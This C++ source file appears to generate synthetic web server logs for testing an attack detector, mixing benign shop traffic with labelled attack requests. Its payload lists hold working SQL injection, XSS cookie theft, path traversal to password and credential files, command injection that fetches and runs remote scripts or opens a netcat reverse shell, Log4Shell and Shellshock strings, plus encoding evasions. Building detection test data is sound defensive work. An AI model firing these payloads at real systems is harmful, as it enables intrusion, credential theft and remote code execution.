#include "gen/payloads.hpp"

#include <cctype>

namespace vigil {
namespace {

std::string fill(std::string_view pattern, seeded_random& rng) {
  // {n} small number, {s} sleep seconds, {ip} an address, {w} a word, {c} NULL column list
  std::string out;
  for (std::size_t i = 0; i < pattern.size(); ++i) {
    const auto close = pattern[i] == '{' ? pattern.find('}', i) : std::string_view::npos;
    const auto key = close == std::string_view::npos ? std::string_view{} : pattern.substr(i + 1, close - i - 1);
    if (key == "n" || key == "s" || key == "ip" || key == "w" || key == "c") {
      if (key == "n") out += std::to_string(rng.between(1, 9999));
      else if (key == "s") out += std::to_string(rng.between(2, 15));
      else if (key == "ip")
        out += std::to_string(rng.between(11, 223)) + "." + std::to_string(rng.below(256)) + "." +
               std::to_string(rng.below(256)) + "." + std::to_string(rng.between(1, 254));
      else if (key == "w") out += random_word(rng);
      else if (key == "c") {
        const auto columns = rng.between(1, 8);
        for (int k = 0; k < columns; ++k) out += k ? ",NULL" : "NULL";
      }
      i = close;
    } else {
      out += pattern[i];
    }
  }
  return out;
}

std::string random_case(std::string_view text, seeded_random& rng) {
  std::string out(text);
  for (auto& c : out) {
    if (std::isalpha(static_cast<unsigned char>(c)) && rng.chance(0.5))
      c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  }
  return out;
}

// Encodes an attack payload as a parameter value, the way different tools do.
std::string encode_payload(std::string_view payload, seeded_random& rng) {
  std::string p(payload);
  if (rng.chance(0.2)) p = random_case(p, rng);
  switch (rng.below(5)) {
    case 0: return url_encode(p, false);                 // raw specials, spaces as %20
    case 1: {                                            // spaces as '+'
      std::string s;
      for (char c : p) s += c == ' ' ? std::string("+") : url_encode(std::string(1, c), false);
      return s;
    }
    case 2: return url_encode(p, true);                  // everything encoded (sqlmap, browsers)
    case 3: return url_encode(url_encode(p, true), true);  // double-encoded evasion
    default: return url_encode(p, rng.chance(0.5));
  }
}

const std::vector<std::string_view> params{"id", "q", "page", "file", "name", "search", "cat", "item", "view",
                                           "lang", "ref", "sort", "template", "path", "url", "host", "cmd", "ip"};
const std::vector<std::string_view> endpoints{"/", "/index.php", "/search", "/products", "/item.php", "/view",
                                              "/api/v1/items", "/api/v1/users", "/download", "/page.php",
                                              "/cgi-bin/status", "/admin/tools/ping"};

std::string in_parameter(const std::string& value, seeded_random& rng) {
  std::string target(endpoints[rng.below(endpoints.size())]);
  target += "?";
  if (rng.chance(0.3)) target += "lang=en&";
  target += params[rng.below(params.size())];
  target += "=" + value;
  return target;
}

int attack_status(seeded_random& rng) {
  static const std::vector<double> w{0.45, 0.15, 0.15, 0.1, 0.1, 0.05};
  static const int statuses[] = {200, 400, 403, 404, 500, 302};
  return statuses[rng.weighted(w)];
}

}  // namespace

std::string url_encode(std::string_view text, bool all) {
  static constexpr char hex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : text) {
    const bool unreserved = std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~';
    const bool must = c <= 0x20 || c >= 0x7f || c == '"' || c == '#' || c == '%';
    if ((all && !unreserved) || must) {
      out += '%';
      out += hex[c >> 4];
      out += hex[c & 15];
    } else {
      out += static_cast<char>(c);
    }
  }
  return out;
}

const std::vector<std::string_view>& attack_categories() {
  static const std::vector<std::string_view> c{"sqli",           "xss",       "traversal",  "cmdi",    "scanner",
                                               "sensitive_file", "log4shell", "shellshock", "protocol"};
  return c;
}

const std::vector<std::string_view>& behaviour_labels() {
  static const std::vector<std::string_view> b{"not_found_burst", "failed_logins", "flood"};
  return b;
}

gen_request attack_request(std::string_view category, seeded_random& rng) {
  static const std::vector<std::string_view> sqli{
      "{n}' OR '1'='1", "{n}' or 1=1-- -", "{n} OR 1=1", "' UNION SELECT {c}--", "{n} UNION ALL SELECT username,password FROM users--",
      "{n}; DROP TABLE users--", "{n}' AND SLEEP({s})-- -", "{n}' AND (SELECT {n} FROM (SELECT(SLEEP({s})))a)-- x",
      "1' AND extractvalue(1,concat(0x7e,(select version())))-- -", "1 AND 1=CONVERT(int,@@version)", "admin'--",
      "' or ''='", "1' WAITFOR DELAY '0:0:{s}'--",
      "-1' UNION/**/SELECT/**/1,2,group_concat(table_name) FROM information_schema.tables--",
      "1;SELECT pg_sleep({s})", "{n}) OR ({n}={n}", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
      "{n}' UNION SELECT null,table_name FROM information_schema.tables WHERE 2>1--",
      // evasions
      "{n}'/**/oR/**/1=1#", "{n} order by {n}-- -", "%u0027 or 1=1--", "{n}'||'1'='1", "1' aNd 2 bEtWeEn 1 and 3-- -"};
  static const std::vector<std::string_view> xss{
      "<script>alert({n})</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert({n})>",
      "<svg/onload=alert({n})>", "javascript:alert({n})", "'\"><iframe src=javascript:alert({n})>",
      "<body onload=alert('XSS')>", "<ScRiPt>prompt({n})</ScRiPt>",
      "\"><img src=x onerror=fetch('//{ip}/'+document.cookie)>", "<details open ontoggle=alert({n})>",
      "<a href=\"javascript:confirm({n})\">{w}</a>", "{w}\" onmouseover=\"alert({n})", "<svg><animate onbegin=alert({n}) attributeName=x>",
      // evasions
      "<scr<script>ipt>alert({n})</scr</script>ipt>", "<a href=\"jav&#x09;ascript:alert({n})\">x</a>",
      "<input autofocus onfocus=alert({n})>", "%u003Cscript%u003Ealert({n})%u003C/script%u003E"};
  static const std::vector<std::string_view> traversal{
      "../../../../etc/passwd", "../../../../../../etc/shadow", "....//....//....//etc/passwd",
      "..\\..\\..\\..\\windows\\win.ini", "../../../../../../etc/passwd%00.jpg",
      "php://filter/convert.base64-encode/resource=index.php", "file:///etc/passwd", "/proc/self/environ",
      "../../../../../boot.ini", "..%2f..%2f..%2f..%2fetc%2fhosts", "../../../../var/www/html/{w}.php",
      "../../config/database.{w}",
      // evasions
      "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..;/..;/..;/WEB-INF/web.xml", "....\\....\\....\\windows\\win.ini",
      "/%2e%2e/%2e%2e/%2e%2e/etc/group"};
  static const std::vector<std::string_view> cmdi{
      "127.0.0.1;id", "{ip} | whoami", "$(whoami)", "`uname -a`", "x && curl http://{ip}/x.sh | sh",
      ";wget http://{ip}/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b", "|nc -e /bin/sh {ip} 4444", ";ping -c 3 {ip}",
      "{w};ls -la", "x||ping -n 5 127.0.0.1", "$(curl -s http://{ip}/p.sh|bash)", ";${IFS}cat${IFS}/tmp/{w}",
      "|| echo {n} > /tmp/{w}",
      // evasions
      ";{cat,/tmp/{w}}", "a;c''at /tmp/{w}", "%0aid", "x;w\\get http://{ip}/x"};
  static const std::vector<std::string_view> sensitive{
      "/.env", "/.git/config", "/.git/HEAD", "/wp-config.php.bak", "/config.php~", "/.aws/credentials", "/.ssh/id_rsa",
      "/backup.sql", "/db.sql", "/phpinfo.php", "/server-status", "/.DS_Store", "/.htpasswd", "/actuator/env",
      "/.svn/entries", "/web.config", "/config/database.yml", "/dump.sql.gz", "/{w}/.env", "/api/.env",
      "/wp-config.php.save", "/.vscode/sftp.json", "/site.zip", "/phpmyadmin/index.php",
      // evasions
      "/%2e%65nv", "/.git//HEAD", "/WP-CONFIG.PHP.BAK"};
  static const std::vector<std::string_view> log4shell{
      "${jndi:ldap://{ip}:1389/a}", "${jndi:rmi://{ip}/{w}}", "${${lower:j}ndi:${lower:l}dap://{ip}/x}",
      "${${::-j}${::-n}${::-d}${::-i}:rmi://{ip}/o}", "${jndi:dns://{w}.{ip}.nip.io/}",
      "${${env:NaN:-j}ndi${env:NaN:-:}ldap://{ip}/b}"};
  static const std::vector<std::string_view> shellshock{
      "() { :; }; /bin/bash -c \"curl http://{ip}/x | sh\"", "() { :;}; echo; /usr/bin/id",
      "() { ignored; }; /bin/sleep {s}", "() { :; }; wget -qO- http://{ip}/s.pl | perl"};

  gen_request r;
  r.status = attack_status(rng);
  r.bytes = rng.between(0, 5000);
  if (category == "sqli" || category == "xss" || category == "cmdi") {
    const auto& list = category == "sqli" ? sqli : category == "xss" ? xss : cmdi;
    const auto payload = fill(rng.pick(list), rng);
    if (rng.chance(0.1) && category != "cmdi") {  // in the path, as REST routes take it
      r.target = "/products/" + url_encode(payload, rng.chance(0.5));  // '+' means '+' in a path
    } else {
      r.target = in_parameter(encode_payload(payload, rng), rng);
    }
    if (rng.chance(0.15)) r.method = "POST";
  } else if (category == "traversal") {
    const auto payload = fill(rng.pick(traversal), rng);
    if (rng.chance(0.2) && payload.starts_with("../")) {
      r.target = "/static/" + url_encode(payload, rng.chance(0.3));
    } else {
      r.target = in_parameter(encode_payload(payload, rng), rng);
    }
  } else if (category == "scanner") {
    r.agent = rng.pick(scanner_agents());
    static const std::vector<std::string_view> paths{"/", "/index.php", "/robots.txt", "/admin/", "/login",
                                                     "/cgi-bin/", "/wp-login.php", "/sitemap.xml", "/{w}/", "/{w}.html"};
    r.target = fill(rng.pick(paths), rng);
    r.status = rng.chance(0.5) ? 404 : 200;
  } else if (category == "sensitive_file") {
    r.target = fill(rng.pick(sensitive), rng);
    r.status = rng.chance(0.7) ? 404 : rng.chance(0.5) ? 403 : 200;
  } else if (category == "log4shell") {
    const auto payload = fill(rng.pick(log4shell), rng);
    switch (rng.below(3)) {
      case 0: r.agent = payload; r.target = "/"; break;
      case 1: r.referer = payload; r.target = "/" + random_word(rng); break;
      default: r.target = in_parameter(encode_payload(payload, rng), rng); break;
    }
  } else if (category == "protocol") {
    r.status = 400;
    r.bytes = rng.between(150, 170);
    switch (rng.below(6)) {
      case 0: {  // a TLS ClientHello sent to the plain-HTTP port
        r.raw = "\x16\x03\x01";
        for (int i = 0; i < 12; ++i) r.raw += static_cast<char>(rng.below(256));
        r.agent = "-";
        break;
      }
      case 1: r.raw = "SSH-2.0-Go"; r.agent = "-"; break;
      case 2: r.method = std::string(rng.pick({"TRACE", "TRACK", "DEBUG"})); r.target = "/"; r.status = 405; break;
      case 3: r.method = "CONNECT"; r.target = fill("{w}.example.net:443", rng); break;
      case 4: r.target = fill("http://{ip}/proxy-check.php", rng); r.status = 404; break;
      default:  // an RDP connection request (TPKT header, then the mstshash cookie)
        r.raw = std::string("\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00", 11) + "Cookie: mstshash=Administr";
        r.agent = "-";
        break;
    }
  } else if (category == "shellshock") {
    const auto payload = fill(rng.pick(shellshock), rng);
    if (rng.chance(0.7)) r.agent = payload; else r.referer = payload;
    r.target = rng.chance(0.5) ? "/cgi-bin/status" : "/cgi-bin/test.cgi";
  }
  return r;
}

const std::vector<std::string>& browser_agents() {
  static const std::vector<std::string> a{
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
      "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1.2 Mobile/15E148 Safari/604.1",
      "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Edg/119.0.2151.97",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0",
      "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1"};
  return a;
}

const std::vector<std::string>& crawler_agents() {
  static const std::vector<std::string> a{
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
      "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
      "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
      "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"};
  return a;
}

const std::vector<std::string>& tool_agents() {
  static const std::vector<std::string> a{"curl/7.88.1", "python-requests/2.31.0", "okhttp/4.12.0", "Go-http-client/1.1",
                                          "axios/1.6.2", "Wget/1.21.3", "shop-app/3.4.1 (iOS 17.1; iPhone14,2)",
                                          "Apache-HttpClient/4.5.14 (Java/17.0.9)"};
  return a;
}

const std::vector<std::string>& scanner_agents() {
  static const std::vector<std::string> a{
      "sqlmap/1.7.12#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "gobuster/3.6",
      "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
      "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "ffuf/2.1.0", "WhatWeb/0.5.5",
      "Mozilla/5.0 (compatible; Nessus SOAP)", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix",
      "feroxbuster/2.10.1", "Wfuzz/3.1.0", "Mozilla/5.0 (X11; Linux x86_64) w3af.org"};
  return a;
}

std::string random_word(seeded_random& rng) {
  static const std::vector<std::string_view> words{
      "shoes", "jacket", "garden", "coffee", "lamp", "desk", "travel", "camera", "guitar", "kitchen", "winter",
      "summer", "blue", "red", "vintage", "organic", "wireless", "leather", "running", "classic", "mini", "pro",
      "select", "union", "drop", "script", "alert", "sleep", "cat", "exec", "order", "table", "union-station",
      "update", "delete", "insert", "from", "where", "or", "and", "like", "null", "echo", "ping", "shell"};
  return std::string(rng.pick(words));
}

gen_request benign_page(seeded_random& rng, const std::string& previous_page) {
  gen_request r;
  r.referer = previous_page.empty() ? (rng.chance(0.4) ? "https://www.google.com/" : "") : previous_page;
  r.bytes = rng.between(2000, 90000);
  static const std::vector<double> weights{0.1, 0.25, 0.15, 0.15, 0.07, 0.05, 0.05, 0.05, 0.04, 0.04, 0.03, 0.02};
  static const std::vector<std::string_view> tricky_queries{
      "o'brien pub", "rock & roll", "c++ tutorial", "50% off", "black or white", "rock and roll", "union station",
      "select a gift", "drop shipping", "script writing", "cat food", "1/2 inch pipe", "\"exact phrase\"", "<3 mugs",
      "smith & wesson", "100% cotton", "what is 1+1", "café crème", "sleep mask", "alert bell", "a-b testing",
      "t-shirt size=m", "don't panic", "jack's", "q&a", "10 < 20", "dad's or mom's", "from here to there"};
  switch (rng.weighted(weights)) {
    case 0: r.target = "/"; break;
    case 1: r.target = "/products/" + std::to_string(rng.between(1, 5000)); break;
    case 2: r.target = "/category/" + random_word(rng) + (rng.chance(0.3) ? "?page=" + std::to_string(rng.between(2, 20)) : ""); break;
    case 3: {
      std::string q;
      if (rng.chance(0.3)) {
        q = std::string(rng.pick(tricky_queries));
      } else {
        const auto n = rng.between(1, 3);
        for (int i = 0; i < n; ++i) q += (i ? " " : "") + random_word(rng);
      }
      std::string encoded;
      for (char c : q) encoded += c == ' ' ? std::string("+") : url_encode(std::string(1, c), true);
      r.target = "/search?q=" + encoded + (rng.chance(0.2) ? "&sort=price_asc" : "");
      break;
    }
    case 4: r.target = "/blog/2025/" + random_word(rng) + "-" + random_word(rng); break;
    case 5: r.target = "/cart"; break;
    case 6: r.target = "/products/" + random_word(rng) + "-" + random_word(rng) + "?utm_source=newsletter&utm_medium=email&utm_campaign=" + random_word(rng); break;
    case 7: r.target = "/account"; r.status = rng.chance(0.2) ? 302 : 200; break;
    case 8: r.target = "/login?next=%2Faccount%2Forders"; break;
    case 9:
      r.method = "POST";
      r.target = "/login";
      r.status = rng.chance(0.85) ? 302 : 401;  // the occasional typo
      r.bytes = rng.between(0, 500);
      break;
    case 10: r.target = "/help/" + random_word(rng) + ".html"; r.status = rng.chance(0.1) ? 404 : 200; break;
    default: r.target = "/checkout?step=" + std::to_string(rng.between(1, 3)); break;
  }
  return r;
}

gen_request benign_asset(seeded_random& rng, const std::string& page) {
  gen_request r;
  r.referer = page;
  static const std::vector<std::string_view> assets{"/static/css/main.3f9a1c.css", "/static/js/app.8e1d22.js",
                                                    "/static/js/vendor.91ab04.js", "/static/fonts/inter.woff2",
                                                    "/favicon.ico", "/static/img/logo.svg"};
  if (rng.chance(0.5)) {
    r.target = "/images/products/" + std::to_string(rng.between(1, 5000)) + (rng.chance(0.5) ? ".jpg" : ".webp");
  } else {
    r.target = std::string(rng.pick(assets));
  }
  r.status = rng.chance(0.3) ? 304 : rng.chance(0.01) ? 404 : 200;
  r.bytes = r.status == 304 ? 0 : rng.between(500, 250000);
  return r;
}

gen_request benign_api(seeded_random& rng) {
  gen_request r;
  r.bytes = rng.between(50, 8000);
  switch (rng.below(7)) {
    case 0: r.target = "/api/v1/items?page=" + std::to_string(rng.between(1, 50)) + "&limit=20"; break;
    case 1: r.target = "/api/v1/items/" + std::to_string(rng.between(1, 5000)); break;
    case 2: r.method = "POST"; r.target = "/api/v1/orders"; r.status = 201; break;
    case 3: r.target = "/api/v1/users/" + std::to_string(rng.between(1, 90000)) + "/cart"; break;
    case 4: r.method = "PUT"; r.target = "/api/v1/cart/items/" + std::to_string(rng.between(1, 5000)); r.status = 204; r.bytes = 0; break;
    case 5: r.target = "/api/v1/search?q=" + random_word(rng) + "&fields=id,name,price&filter=price%3E10"; break;
    default: r.target = "/api/v1/health"; r.bytes = 15; break;
  }
  if (rng.chance(0.01)) r.status = 404;
  return r;
}

gen_request crawler_request(seeded_random& rng) {
  gen_request r;
  r.bytes = rng.between(1000, 80000);
  switch (rng.below(6)) {
    case 0: r.target = "/robots.txt"; break;
    case 1: r.target = "/sitemap.xml"; break;
    case 2: r.target = "/blog/2025/" + random_word(rng) + "-" + random_word(rng); break;
    case 3: r.target = "/category/" + random_word(rng); break;
    default: r.target = "/products/" + std::to_string(rng.between(1, 5200)); break;
  }
  if (rng.chance(0.03)) r.status = 404;
  return r;
}

}  // namespace vigil
